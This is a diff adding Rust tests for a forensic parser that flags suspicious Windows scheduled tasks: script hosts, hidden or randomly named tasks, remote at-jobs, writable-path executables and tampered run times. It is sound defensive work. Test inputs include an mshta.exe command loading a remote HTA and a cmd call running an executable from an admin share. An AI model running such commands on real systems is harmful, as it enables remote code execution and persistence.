@@ -0,0 +1,357 @@
+#![cfg(feature = "binary")]
+
+mod common;
+
+#[cfg(test)]
+mod tests {
+    use super::common::job_bytes;
+    use jobfileparser::detect::{detect_at_job, detect_writable_path};
+    use jobfileparser::{at_job_index, detect, Case, DetectOptions, Job, ParsedArtifact, PathRules, Record};
+    use std::borrow::Cow;
+    use std::path::Path;
+
+    fn rules(job: Job) -> Vec<String> {
+        detect(&ParsedArtifact::Job(job)).iter().map(|f| f.rule.to_string()).collect()
+    }
+
+    #[test]
+    fn test_plain_job_has_no_findings() {
+        let job = Job::parse(&job_bytes("C:\\Tools\\backup.exe")).unwrap();
+        assert!(rules(job).is_empty());
+    }
+
+    #[test]
+    fn test_script_host_ignores_path_and_case() {
+        let job = Job::parse(&job_bytes("\"C:\\Windows\\System32\\WScript.EXE\"")).unwrap();
+        assert_eq!(rules(job), ["script-host"]);
+    }
+
+    #[test]
+    fn test_script_host_behind_wrappers() {
+        let mut job = Job::parse(&job_bytes("C:\\Windows\\explorer.exe")).unwrap();
+        job.parameters = "\"C:\\Windows\\System32\\mshta.exe\" http://x/a.hta".to_string();
+        let findings = detect(&ParsedArtifact::Job(job));
+        assert_eq!(findings[0].rule, "script-host");
+        assert_eq!(findings[0].description, "runs the script host mshta.exe");
+
+        let mut job = Job::parse(&job_bytes("\"C:\\Program Files\\App\\app.exe\"")).unwrap();
+        job.parameters = "--flag".to_string();
+        assert!(rules(job).is_empty());
+    }
+
+    #[test]
+    fn test_implausible_version() {
+        use jobfileparser::consts::product;
+        use jobfileparser::JobBuilder;
+
+        for (version, file_version, flagged) in [
+            (product::WINDOWS_XP, 1, false),
+            (product::WINDOWS_10, 3, true),
+            (0x0000, 1, true),
+        ] {
+            let mut job = JobBuilder::new("a.exe").product_info(version).build().unwrap();
+            job.file_version = file_version;
+            let findings = detect(&ParsedArtifact::Job(job));
+            let finding = findings.iter().find(|f| f.rule == "implausible-version");
+            assert_eq!(finding.is_some(), flagged, "{:#x} {}", version, file_version);
+            if let Some(finding) = finding {
+                // A mild sign: damage explains it as well.
+                assert_eq!(finding.score, Some(10));
+                assert!(finding.description.contains(&format!("{:#06x}", version)), "{}", finding.description);
+                assert!(finding.description.contains(&format!("file version {}", file_version)));
+            }
+        }
+    }
+
+    #[test]
+    fn test_weekday_mismatch() {
+        use jobfileparser::{JobBuilder, JobDate};
+
+        let ran = |day: u16, weekday: u16| {
+            let run_date = JobDate { year: 2024, month: 3, weekday: Some(weekday), day, hour: 2, minute: 13, second: 0 };
+            JobBuilder::new("a.exe").run_date(run_date).build().unwrap()
+        };
+        assert!(rules(ran(4, 1)).is_empty());
+        // 31 April does not exist, so there is no weekday to compare.
+        let mut job = ran(4, 3);
+        job.run_date.month = 4;
+        job.run_date.day = 31;
+        assert!(rules(job).is_empty());
+
+        let findings = detect(&ParsedArtifact::Job(ran(4, 5)));
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].rule, "weekday-mismatch");
+        assert_eq!(findings[0].score, Some(10));
+        assert_eq!(
+            findings[0].description,
+            "the last run time's weekday field says Friday, but 2024-03-04T02:13:00 was a Monday; the date may have been edited"
+        );
+    }
+
+    #[test]
+    fn test_hidden_flag() {
+        let mut job = Job::parse(&job_bytes("a.exe")).unwrap();
+        job.flags |= 0x200;
+        assert_eq!(rules(job), ["hidden-task"]);
+    }
+
+    #[test]
+    fn test_random_task_name() {
+        let findings = |path: &str, threshold: f64| {
+            let job = Job::parse(&job_bytes("a.exe")).unwrap();
+            let mut record = Record::new(Path::new(path), Ok(ParsedArtifact::Job(job)));
+            record.detect_with(&DetectOptions {
+                name_entropy_threshold: threshold,
+                ..DetectOptions::default()
+            });
+            record.findings().iter().map(|f| f.description.clone()).collect::<Vec<_>>()
+        };
+        assert_eq!(findings("Tasks/GxkQpd.job", 0.8), ["task name \"GxkQpd\" looks random (score 1.00)"]);
+        assert!(findings("Tasks/GoogleUpdateTaskMachineCore.job", 0.8).is_empty());
+        // Only names short enough to be picked at random are flagged.
+        assert!(findings("Tasks/{6E8F1C23-9A4B-4D2E-B1F0-3C7A5D9E8B21}.job", 0.8).len() == 1);
+        assert!(findings("Tasks/{6E8F1C23-9A4B-4D2E-B1F0-3C7A5D9E8B21}-5C1D.job", 0.8).is_empty());
+        // The threshold is inclusive and tunable.
+        assert!(findings("Tasks/Task0001.job", 0.4).len() == 1);
+        assert!(findings("Tasks/Task0001.job", 0.41).is_empty());
+    }
+
+    #[test]
+    fn test_at_job_names() {
+        assert_eq!(at_job_index(Path::new("C:\\Windows\\Tasks\\At1.job")), Some(1));
+        assert_eq!(at_job_index(Path::new("tasks/AT12.JOB")), Some(12));
+        assert_eq!(at_job_index(Path::new("at3.Job")), Some(3));
+        for name in ["At.job", "Atx.job", "At1.xml", "Chat1.job", "At-1.job", "At1.job.bak"] {
+            assert_eq!(at_job_index(Path::new(name)), None, "{}", name);
+        }
+    }
+
+    #[test]
+    fn test_at_job_running_a_share_through_cmd_is_remote() {
+        let mut job = Job::parse(&job_bytes("cmd")).unwrap();
+        job.parameters = "/c \\\\10.0.0.5\\c$\\update.exe".to_string();
+        assert_eq!(detect_at_job(1, &ParsedArtifact::Job(job)).rule, "remote-at-job");
+    }
+
+    #[test]
+    fn test_at_job_with_unc_command_is_remote() {
+        let local = ParsedArtifact::Job(Job::parse(&job_bytes("C:\\Windows\\notepad.exe")).unwrap());
+        assert_eq!(detect_at_job(1, &local).rule, "at-job");
+        let remote = ParsedArtifact::Job(Job::parse(&job_bytes("\"\\\\fileserver\\share\\tool.exe\"")).unwrap());
+        assert_eq!(detect_at_job(2, &remote).rule, "remote-at-job");
+        assert_eq!(detect_at_job(2, &remote).description, "At2.job, created by at.exe, runs a program from a network share");
+    }
+
+    #[cfg(feature = "xml")]
+    #[test]
+    fn test_system_task_by_third_party() {
+        use jobfileparser::Task;
+
+        let task_rules = |author: &str, user: &str| -> Vec<String> {
+            let xml = format!(
+                "<Task><RegistrationInfo>{}</RegistrationInfo><Triggers/><Settings/>\
+                 <Principals><Principal><UserId>{}</UserId></Principal></Principals>\
+                 <Actions><Exec><Command>C:\\Tools\\agent.exe</Command></Exec></Actions></Task>",
+                author, user
+            );
+            detect(&ParsedArtifact::Task(Task::from_xml(&xml).unwrap())).iter().map(|f| f.rule.to_string()).collect()
+        };
+        assert_eq!(task_rules("<Author>ACME\\admin</Author>", "S-1-5-18"), ["system-third-party"]);
+        assert_eq!(task_rules("", "NT AUTHORITY\\System"), ["system-third-party"]);
+        assert!(task_rules("<Author>Microsoft Corporation</Author>", "S-1-5-18").is_empty());
+        assert!(task_rules("<Author>$(@%SystemRoot%\\system32\\wininet.dll,-16000)</Author>", "SYSTEM").is_empty());
+        assert!(task_rules("<Author>ACME\\admin</Author>", "S-1-5-19").is_empty());
+    }
+
+    fn path_rule(user: &str, command: &str, arguments: &str, rules: &PathRules) -> Option<&'static str> {
+        let mut job = Job::parse(&job_bytes(command)).unwrap();
+        job.user = user.to_string();
+        job.parameters = arguments.to_string();
+        // Built-in rules are never owned.
+        detect_writable_path(&ParsedArtifact::Job(job), rules).map(|f| match f.rule {
+            Cow::Borrowed(rule) => rule,
+            Cow::Owned(rule) => panic!("owned rule {}", rule),
+        })
+    }
+
+    #[test]
+    fn test_writable_paths() {
+        let none = PathRules::default();
+        let cases = [
+            ("C:\\Users\\Public\\svc.exe", "", Some("writable-path-users")),
+            ("%PUBLIC%\\svc.exe", "", Some("writable-path-users")),
+            ("%LOCALAPPDATA%\\Temp\\a.exe", "", Some("writable-path-temp")),
+            ("%TEMP%\\a.exe", "", Some("writable-path-temp")),
+            ("C:\\Windows\\Temp\\a.exe", "", Some("writable-path-temp")),
+            ("%ProgramData%\\Updater\\up.exe", "", Some("writable-path-programdata")),
+            ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MpCmdRun.exe", "", None),
+            ("C:\\Windows\\Tasks\\x.exe", "", Some("writable-path-tasks")),
+            ("C:\\$Recycle.Bin\\S-1-5-18\\x.exe", "", Some("writable-path-recycle-bin")),
+            ("E:\\tools\\x.exe", "", Some("writable-path-non-system-drive")),
+            ("%SystemRoot%\\System32\\backup.exe", "", None),
+            ("C:\\Program Files\\App\\app.exe", "", None),
+            // The program a wrapper starts counts too.
+            ("cmd.exe", "/c \"%APPDATA%\\x\\run.bat\"", Some("writable-path-users")),
+        ];
+        for (command, arguments, rule) in cases {
+            assert_eq!(path_rule("NT AUTHORITY\\SYSTEM", command, arguments, &none), rule, "{} {}", command, arguments);
+        }
+    }
+
+    #[test]
+    fn test_writable_paths_need_a_privileged_principal() {
+        let none = PathRules::default();
+        assert_eq!(path_rule("S-1-5-18", "%TEMP%\\a.exe", "", &none), Some("writable-path-temp"));
+        assert_eq!(path_rule("BUILTIN\\Administrators", "%TEMP%\\a.exe", "", &none), Some("writable-path-temp"));
+        assert_eq!(path_rule("CORP\\alice", "%TEMP%\\a.exe", "", &none), None);
+        assert_eq!(path_rule("", "%TEMP%\\a.exe", "", &none), None);
+    }
+
+    #[test]
+    fn test_path_rules_extend_the_lists() {
+        let rules = PathRules {
+            flag: vec!["D:/Shares/Drop".to_string(), "C:\\Tools\\".to_string()],
+            allow: vec!["%ProgramData%\\Contoso\\Agent".to_string(), "%ALLUSERSPROFILE%\\Fabrikam".to_string()],
+            ..PathRules::default()
+        };
+        let rule = |command: &str| path_rule("SYSTEM", command, "", &rules);
+        assert_eq!(rule("C:\\ProgramData\\Contoso\\Agent\\agent.exe"), None);
+        assert_eq!(rule("%programdata%\\contoso\\agent\\bin\\agent.exe"), None);
+        assert_eq!(rule("C:\\ProgramData\\Fabrikam\\f.exe"), None);
+        // Only whole folder names match.
+        assert_eq!(rule("C:\\ProgramData\\Contoso\\AgentX\\agent.exe"), Some("writable-path-programdata"));
+        assert_eq!(rule("C:\\Tools\\x.exe"), Some("writable-path-listed"));
+        assert_eq!(rule("C:\\ToolsX\\x.exe"), None);
+        // A listed directory on another drive is still reported as listed.
+        assert_eq!(rule("d:\\shares\\drop\\x.exe"), Some("writable-path-listed"));
+    }
+
+    #[test]
+    fn test_path_rules_ignore_case() {
+        let mut rules = PathRules {
+            flag: vec!["D:\\Données\\Dépôt".to_string()],
+            allow: vec!["%ProgramData%\\Şirket\\Ajan".to_string()],
+            ..PathRules::default()
+        };
+        let rule = |command: &str, rules: &PathRules| path_rule("SYSTEM", command, "", rules);
+        assert_eq!(rule("d:\\DONNÉES\\DÉPÔT\\x.exe", &rules), Some("writable-path-listed"));
+        assert_eq!(rule("C:\\PROGRAMDATA\\ŞİRKET\\AJAN\\a.exe", &rules), None);
+        assert_eq!(rule("C:\\ProgramData\\şirket\\ajan\\a.exe", &rules), None);
+
+        rules.case = Case::Sensitive;
+        assert_eq!(rule("d:\\DONNÉES\\DÉPÔT\\x.exe", &rules), Some("writable-path-non-system-drive"));
+        assert_eq!(rule("D:\\Données\\Dépôt\\x.exe", &rules), Some("writable-path-listed"));
+        assert_eq!(rule("C:\\PROGRAMDATA\\ŞİRKET\\AJAN\\a.exe", &rules), Some("writable-path-programdata"));
+        assert_eq!(rule("C:\\ProgramData\\Şirket\\Ajan\\a.exe", &rules), None);
+    }
+
+    #[test]
+    fn test_off_schedule_job() {
+        use super::common::{trigger_bytes, with_triggers};
+        use jobfileparser::consts::trigger::{self, TriggerType};
+        use jobfileparser::{JobBuilder, JobDate};
+        use std::time::Duration;
+
+        let daily = trigger_bytes(&[
+            (trigger::BEGIN_YEAR, 2024),
+            (trigger::BEGIN_MONTH, 3),
+            (trigger::BEGIN_DAY, 1),
+            (trigger::START_HOUR, 3),
+            (trigger::TRIGGER_TYPE, TriggerType::Daily as u32),
+            (trigger::TRIGGER_SPECIFIC0, 1),
+        ]);
+        let only_daily = std::slice::from_ref(&daily);
+        let logon = trigger_bytes(&[(trigger::TRIGGER_TYPE, TriggerType::AtLogon as u32)]);
+        let findings = |ran: Option<(u16, u16)>, triggers: &[Vec<u8>], tolerance: u64| {
+            let run_date = match ran {
+                Some((hour, minute)) => JobDate { year: 2024, month: 3, weekday: Some(1), day: 4, hour, minute, second: 0 },
+                None => JobDate::never(false),
+            };
+            let job = JobBuilder::new("a.exe").run_date(run_date).build().unwrap();
+            let data = with_triggers(job.to_bytes(), triggers);
+            let mut record = Record::new(Path::new("a.job"), Ok(ParsedArtifact::Job(job)));
+            let options = DetectOptions { schedule_tolerance: Duration::from_secs(tolerance * 60), ..DetectOptions::default() };
+            record.detect_schedule(Some(&data), &options);
+            record.findings().iter().map(|f| format!("{}: {}", f.rule, f.description)).collect::<Vec<_>>()
+        };
+        assert_eq!(
+            findings(Some((14, 37)), only_daily, 5),
+            ["off-schedule-run: last run inconsistent with schedule: ran 2024-03-04T14:37:00, \
+              nearest expected run 2024-03-04T03:00:00"]
+        );
+        assert!(findings(Some((3, 4)), only_daily, 5).is_empty());
+        assert_eq!(findings(Some((3, 4)), only_daily, 3).len(), 1);
+        // Nothing to compare: never ran, no triggers, or a logon could have
+        // started it.
+        assert!(findings(None, only_daily, 5).is_empty());
+        assert!(findings(Some((14, 37)), &[], 5).is_empty());
+        assert!(findings(Some((14, 37)), &[daily.clone(), logon], 5).is_empty());
+    }
+
+    #[cfg(feature = "xml")]
+    #[test]
+    fn test_off_schedule_task() {
+        use jobfileparser::{ExecutionHistory, Task};
+
+        let xml = "<Task><RegistrationInfo/><Triggers><CalendarTrigger>\
+                   <StartBoundary>2024-03-01T03:00:00</StartBoundary>\
+                   <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>\
+                   </CalendarTrigger></Triggers><Settings/>\
+                   <Actions><Exec><Command>a.exe</Command></Exec></Actions></Task>";
+        let findings = |last_started: Option<&str>| {
+            let task = Task::from_xml(xml).unwrap();
+            let mut record = Record::new(Path::new("Task"), Ok(ParsedArtifact::Task(task)));
+            record.set_execution_history(ExecutionHistory {
+                runs: 1,
+                last_started: last_started.map(str::to_string),
+                ..ExecutionHistory::default()
+            });
+            record.detect_schedule(None, &DetectOptions::default());
+            record.findings().iter().map(|f| f.description.clone()).collect::<Vec<_>>()
+        };
+        assert_eq!(
+            findings(Some("2024-03-04T14:37:00")),
+            ["last run inconsistent with schedule: ran 2024-03-04T14:37:00, nearest expected run 2024-03-04T03:00:00"]
+        );
+        assert!(findings(Some("2024-03-04T03:00:12")).is_empty());
+        assert!(findings(None).is_empty());
+    }
+
+    #[cfg(feature = "xml")]
+    #[test]
+    fn test_off_schedule_task_with_huge_repetition() {
+        use jobfileparser::{ExecutionHistory, Task};
+
+        // Repetitions lasting 100 million years, whose starts are not all
+        // looked for, and lasting past `i64::MAX` seconds.
+        let cases = [
+            ("PT1H", "P99999999Y", "2024-03-04T15:00:00"),
+            ("P500000000000Y", "P500000000000Y", "2024-03-04T03:00:00"),
+        ];
+        for (interval, duration, nearest) in cases {
+            let xml = format!(
+                "<Task><RegistrationInfo/><Triggers><CalendarTrigger>\
+                 <StartBoundary>2024-03-01T03:00:00</StartBoundary>\
+                 <Repetition><Interval>{}</Interval><Duration>{}</Duration></Repetition>\
+                 <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>\
+                 </CalendarTrigger></Triggers><Settings/>\
+                 <Actions><Exec><Command>a.exe</Command></Exec></Actions></Task>",
+                interval, duration
+            );
+            let task = Task::from_xml(&xml).unwrap();
+            let mut record = Record::new(Path::new("Task"), Ok(ParsedArtifact::Task(task)));
+            record.set_execution_history(ExecutionHistory {
+                runs: 1,
+                last_started: Some("2024-03-04T14:37:00".to_string()),
+                ..ExecutionHistory::default()
+            });
+            record.detect_schedule(None, &DetectOptions::default());
+            let expected = format!(
+                "last run inconsistent with schedule: ran 2024-03-04T14:37:00, \
+                 nearest expected run {}",
+                nearest
+            );
+            assert_eq!(record.findings()[0].description, expected);
+        }
+    }
+}